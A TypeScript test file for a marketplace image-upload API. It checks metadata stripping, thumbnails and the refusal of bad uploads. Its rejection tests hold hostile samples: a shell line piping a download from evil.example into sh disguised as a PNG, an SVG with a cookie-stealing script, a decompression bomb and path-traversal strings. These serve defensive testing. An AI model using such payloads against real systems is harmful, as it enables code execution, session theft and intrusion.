/**
 * POST /v1/:chainId/:product/upload over real HTTP, on PGlite and PostgreSQL: images are taken
 * by content, re-encoded without metadata, stored with a thumbnail and recorded; everything else
 * is refused with nothing stored and nothing recorded.
 */
import { existsSync, readdirSync } from 'node:fs'
import { devAccount } from '@ghost/contracts/anvil'
import type { ApiErrorBody, ApiUpload } from '@ghost/sdk'
import sharp from 'sharp'
import { beforeAll, expect, test } from 'vitest'
import { describeEachDatabase, useMarketChain } from './test/marketSuite'
import { encodeForm, type FormFile, rawRequest, uploadForm } from './test/uploadForm'

const MAX_BYTES = 1_000_000

const noise = (width: number, height: number) =>
  sharp({
    create: {
      width,
      height,
      channels: 3,
      background: '#808080',
      noise: { type: 'gaussian', mean: 128, sigma: 30 },
    },
  })

type Images = {
  png: Buffer
  jpegWithGps: Buffer
  rotatedJpeg: Buffer
  gif: Buffer
  webp: Buffer
  bomb: Buffer
}

async function makeImages(): Promise<Images> {
  const frames = await Promise.all(
    ['#00ff00', '#0000ff'].map((background) =>
      sharp({ create: { width: 50, height: 40, channels: 4, background } })
        .png()
        .toBuffer(),
    ),
  )
  return {
    png: await noise(400, 300).png().toBuffer(),
    jpegWithGps: await noise(400, 300)
      .jpeg()
      .withExif({
        IFD0: { Copyright: 'Ghost test', Artist: 'Someone' },
        IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '48/1 51/1 24/1' },
      })
      .toBuffer(),
    // stored 40 wide and 20 high, shown upright 20 × 40 (EXIF orientation 6: turn 90°)
    rotatedJpeg: await sharp({ create: { width: 40, height: 20, channels: 3, background: '#888' } })
      .jpeg()
      .withMetadata({ orientation: 6 })
      .toBuffer(),
    gif: await sharp(frames, { join: { animated: true } })
      .gif({ delay: [100, 100], loop: 0 })
      .toBuffer(),
    webp: await noise(64, 48).webp().toBuffer(),
    // 48 megapixels of one colour: 150 KB compressed, 144 MB decoded
    bomb: await sharp({ create: { width: 8000, height: 6000, channels: 3, background: '#fff' } })
      .png({ compressionLevel: 9 })
      .toBuffer(),
  }
}

const SVG_WITH_SCRIPT = Buffer.from(
  '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(document.cookie)</script></svg>',
)
const SCRIPT = Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n')

let images: Images
const world = useMarketChain(async () => {
  images = await makeImages()
})

describeEachDatabase(
  world,
  (suite) => {
    let token: string
    const uploader = devAccount(2).address.toLowerCase()

    beforeAll(async () => {
      token = await suite.server.signIn(devAccount(2))
    }, 60_000)

    const upload = (files: FormFile[], options: { product?: string; token?: string } = {}) =>
      suite.server.request<ApiUpload & ApiErrorBody>(
        'POST',
        `/v1/1337/${options.product ?? 'nft'}/upload`,
        { token: 'token' in options ? options.token : token, body: uploadForm(files) },
      )
    const storedFiles = () =>
      existsSync(world.chain.filesDir) ? readdirSync(world.chain.filesDir).sort() : []
    const uploadRows = () =>
      suite.server.database.db.selectFrom('market_upload').selectAll().orderBy('cid').execute()
    const download = async (path: string) => {
      const response = await fetch(`${suite.server.url}${path}`)
      return {
        type: response.headers.get('content-type'),
        bytes: Buffer.from(await response.arrayBuffer()),
      }
    }

    /** Runs a refused request and checks it stored no file and recorded no upload. */
    async function refused<T>(send: () => Promise<T>): Promise<T> {
      const filesBefore = storedFiles()
      const rowsBefore = await uploadRows()
      const answer = await send()
      expect(storedFiles()).toEqual(filesBefore)
      expect(await uploadRows()).toEqual(rowsBefore)
      return answer
    }

    test('a PNG is stored with a smaller WebP thumbnail and recorded', async () => {
      const answer = await upload([{ bytes: images.png, filename: 'art.png', type: 'image/png' }])
      expect(answer.status).toBe(201)
      const { cid, thumbnail } = answer.body
      expect(answer.body).toEqual({
        cid,
        image: `/ipfs/${cid}`,
        filetype: 'image/png',
        thumbnail: { cid: thumbnail.cid, image: `/ipfs/${thumbnail.cid}` },
        width: 400,
        height: 300,
      })
      const original = await download(answer.body.image)
      expect(original.type).toBe('image/png')
      expect(await sharp(original.bytes).metadata()).toMatchObject({
        format: 'png',
        width: 400,
        height: 300,
      })
      const small = await download(thumbnail.image)
      expect(small.type).toBe('image/webp')
      expect(await sharp(small.bytes).metadata()).toMatchObject({
        format: 'webp',
        width: 320,
        height: 240,
      })
      expect(small.bytes.length).toBeLessThan(original.bytes.length)
      const row = await suite.server.database.db
        .selectFrom('market_upload')
        .select(['product', 'filetype', 'thumbnail_cid', 'width', 'height', 'uploader'])
        .where('cid', '=', cid)
        .executeTakeFirstOrThrow()
      expect(row).toEqual({
        product: 'nft',
        filetype: 'image/png',
        thumbnail_cid: thumbnail.cid,
        width: 400,
        height: 300,
        uploader,
      })
    })

    test('the same image uploaded again answers the same CIDs and keeps one row', async () => {
      const first = await upload([{ bytes: images.webp }], { product: 'collection' })
      const rows = await uploadRows()
      const again = await upload([{ bytes: images.webp }], { product: 'collection' })
      expect(first.status).toBe(201)
      expect(again.status).toBe(201)
      expect(again.body).toEqual(first.body)
      expect(first.body).toMatchObject({ filetype: 'image/webp', width: 64, height: 48 })
      expect(await uploadRows()).toEqual(rows)
      expect((await download(first.body.image)).type).toBe('image/webp')
    })

    test('EXIF and GPS are stripped from a JPEG', async () => {
      const source = await sharp(images.jpegWithGps).metadata()
      expect(source.exif?.length).toBeGreaterThan(0)
      const answer = await upload([{ bytes: images.jpegWithGps, type: 'image/jpeg' }])
      expect(answer.status).toBe(201)
      expect(answer.body.filetype).toBe('image/jpeg')
      const stored = await download(answer.body.image)
      expect(stored.type).toBe('image/jpeg')
      const metadata = await sharp(stored.bytes).metadata()
      expect(metadata).toMatchObject({ format: 'jpeg', width: 400, height: 300 })
      expect(metadata.exif).toBeUndefined()
      expect(metadata.xmp).toBeUndefined()
      expect(stored.bytes.includes('Ghost test')).toBe(false)
    })

    test('an EXIF orientation is applied to the pixels before it is dropped', async () => {
      const answer = await upload([{ bytes: images.rotatedJpeg }])
      expect(answer.status).toBe(201)
      expect(answer.body).toMatchObject({ width: 20, height: 40 })
      const metadata = await sharp((await download(answer.body.image)).bytes).metadata()
      expect(metadata).toMatchObject({ width: 20, height: 40 })
      expect(metadata.orientation).toBeUndefined()
    })

    test('a GIF keeps its animation; its thumbnail is its first frame', async () => {
      const answer = await upload([{ bytes: images.gif }])
      expect(answer.status).toBe(201)
      expect(answer.body).toMatchObject({ filetype: 'image/gif', width: 50, height: 40 })
      const stored = await download(answer.body.image)
      expect(stored.type).toBe('image/gif')
      expect(await sharp(stored.bytes, { animated: true }).metadata()).toMatchObject({
        format: 'gif',
        pages: 2,
        pageHeight: 40,
      })
      const thumbnail = await sharp((await download(answer.body.thumbnail.image)).bytes).metadata()
      expect(thumbnail).toMatchObject({ format: 'webp', width: 50, height: 40 })
    })

    test('a script named x.png and sent as image/png is refused: 415', async () => {
      const answer = await refused(() =>
        upload([{ bytes: SCRIPT, filename: 'x.png', type: 'image/png' }]),
      )
      expect(answer.status).toBe(415)
      expect(answer.body).toMatchInlineSnapshot(`
        {
          "error": "Unsupported Media Type",
          "message": "Only PNG, JPEG, GIF and WebP images are accepted.",
        }
      `)
    })

    test('an SVG with a script is refused: 415', async () => {
      const answer = await refused(() =>
        upload([{ bytes: SVG_WITH_SCRIPT, filename: 'logo.png', type: 'image/png' }]),
      )
      expect(answer.status).toBe(415)
      expect(answer.body.message).toBe('Only PNG, JPEG, GIF and WebP images are accepted.')
    })

    test('a truncated PNG is refused: 422', async () => {
      const answer = await refused(() => upload([{ bytes: images.png.subarray(0, 2000) }]))
      expect(answer.status).toBe(422)
      expect(answer.body).toMatchInlineSnapshot(`
        {
          "error": "Unprocessable Entity",
          "message": "The PNG image could not be decoded; it may be truncated or damaged.",
        }
      `)
    })

    test('a decompression bomb is refused before it is decoded: 422', async () => {
      expect(images.bomb.length).toBeLessThan(MAX_BYTES)
      const answer = await refused(() => upload([{ bytes: images.bomb }]))
      expect(answer.status).toBe(422)
      expect(answer.body).toMatchInlineSnapshot(`
        {
          "error": "Unprocessable Entity",
          "message": "The image has 48000000 pixels in all its frames; at most 40000000 are accepted.",
        }
      `)
    })

    test('a file over the size limit is refused: 413', async () => {
      const big = Buffer.concat([images.png, Buffer.alloc(MAX_BYTES)])
      const answer = await refused(() => upload([{ bytes: big, type: 'image/png' }]))
      expect(answer.status).toBe(413)
      expect(answer.body).toMatchInlineSnapshot(`
        {
          "error": "Payload Too Large",
          "message": "The file is larger than 1000000 bytes, the largest upload accepted.",
        }
      `)
    })

    test('no file, an empty one, two files, a file in another field, too many fields, or not multipart: 400', async () => {
      const noFile = await refused(() =>
        suite.server.request<ApiErrorBody>('POST', '/v1/1337/nft/upload', {
          token,
          body: uploadForm([], { name: 'x' }),
        }),
      )
      expect(noFile.status).toBe(400)
      expect(noFile.body).toMatchInlineSnapshot(`
        {
          "error": "Bad Request",
          "issues": [
            {
              "code": "custom",
              "in": "body",
              "message": "Send the image as multipart/form-data with one file in the field 'file'.",
              "path": [
                "file",
              ],
            },
          ],
          "message": "body.file: Send the image as multipart/form-data with one file in the field 'file'.",
        }
      `)
      const two = await refused(() => upload([{ bytes: images.png }, { bytes: images.webp }]))
      expect(two.status).toBe(400)
      expect(two.body.message).toBe(noFile.body.message)
      const otherField = await refused(() => upload([{ bytes: images.png, field: 'image' }]))
      expect(otherField.status).toBe(400)
      const empty = await refused(() => upload([{ bytes: new Uint8Array(), filename: 'x.png' }]))
      expect(empty.status).toBe(400)
      const fields = Object.fromEntries(Array.from({ length: 5 }, (_, index) => [`f${index}`, 'x']))
      const manyFields = await refused(() =>
        suite.server.request<ApiErrorBody>('POST', '/v1/1337/nft/upload', {
          token,
          body: uploadForm([{ bytes: images.png }], fields),
        }),
      )
      expect(manyFields.status).toBe(400)
      expect(manyFields.body.message).toBe(
        `${noFile.body.message} At most 4 other fields are accepted.`,
      )
      // four text fields beside the file are fine (ignored)
      const { f4: _, ...fourFields } = fields
      const someFields = await suite.server.request<ApiUpload>(
        'POST',
        '/v1/1337/collection/upload',
        {
          token,
          body: uploadForm([{ bytes: images.webp }], fourFields),
        },
      )
      expect(someFields.status).toBe(201)
      const json = await refused(() =>
        suite.server.request<ApiErrorBody>('POST', '/v1/1337/nft/upload', {
          token,
          json: { file: images.png.toString('base64') },
        }),
      )
      expect(json.status).toBe(400)
      expect(json.body.message).toBe(noFile.body.message)
      const octets = await refused(() =>
        suite.server.request<ApiErrorBody>('POST', '/v1/1337/nft/upload', {
          token,
          body: images.png,
          headers: { 'content-type': 'image/png' },
        }),
      )
      expect(octets.status).toBe(400)
      const broken = await refused(() =>
        suite.server.request<ApiErrorBody>('POST', '/v1/1337/nft/upload', {
          token,
          body: 'not a multipart body',
          headers: { 'content-type': 'multipart/form-data; boundary=xyz' },
        }),
      )
      expect(broken.status).toBe(400)
    })

    test('a product outside the fixed list is refused, whatever the path trick', async () => {
      const { body, contentType } = await encodeForm(uploadForm([{ bytes: images.png }]))
      const headers = { authorization: `Bearer ${token}`, 'content-type': contentType }
      const statuses: Record<string, number> = {}
      for (const product of [
        '..',
        '%2e%2e',
        '%2e%2e%2f',
        'nft%2f..',
        'NFT',
        'collections',
        '%EF%BD%8E%EF%BD%86%EF%BD%94',
        '',
        'nft/..%2fx',
      ]) {
        const answer = await refused(() =>
          rawRequest(suite.server.url, 'POST', `/v1/1337/${product}/upload`, headers, body),
        )
        statuses[product] = answer.status
      }
      expect(statuses).toMatchInlineSnapshot(`
        {
          "": 400,
          "%2e%2e": 400,
          "%2e%2e%2f": 400,
          "%EF%BD%8E%EF%BD%86%EF%BD%94": 400,
          "..": 400,
          "NFT": 400,
          "collections": 400,
          "nft%2f..": 400,
          "nft/..%2fx": 404,
        }
      `)
      const answer = await refused(() =>
        rawRequest(suite.server.url, 'POST', '/v1/1337/..%2f..%2fetc/upload', headers, body),
      )
      expect(answer.body).toMatchInlineSnapshot(`
        {
          "error": "Bad Request",
          "issues": [
            {
              "code": "invalid_value",
              "in": "params",
              "message": "Invalid option: expected one of "nft"|"collection"",
              "path": [
                "product",
              ],
            },
          ],
          "message": "params.product: Invalid option: expected one of "nft"|"collection"",
        }
      `)
    })

    test('no session: 401; another chain: 404', async () => {
      const anonymous = await refused(() => upload([{ bytes: images.png }], { token: undefined }))
      expect(anonymous.status).toBe(401)
      expect(anonymous.body).toMatchInlineSnapshot(`
        {
          "error": "Unauthorized",
          "message": "Sign in with your wallet first: send Authorization: Bearer <token> from POST /api/auth/login.",
        }
      `)
      const otherChain = await refused(() =>
        suite.server.request<ApiErrorBody>('POST', '/v1/56/nft/upload', {
          token,
          body: uploadForm([{ bytes: images.png }]),
        }),
      )
      expect(otherChain.status).toBe(404)
    })

    test('JSON routes outside the upload scope still parse JSON', async () => {
      const answer = await suite.server.request<ApiErrorBody>('POST', '/api/auth/login', {
        json: { message: 5, signature: 'not hex' },
      })
      expect(answer.status).toBe(400)
      expect(answer.body.issues?.length).toBeGreaterThan(0)
    })
  },
  { index: false, config: { uploadMaxBytes: MAX_BYTES } },
)
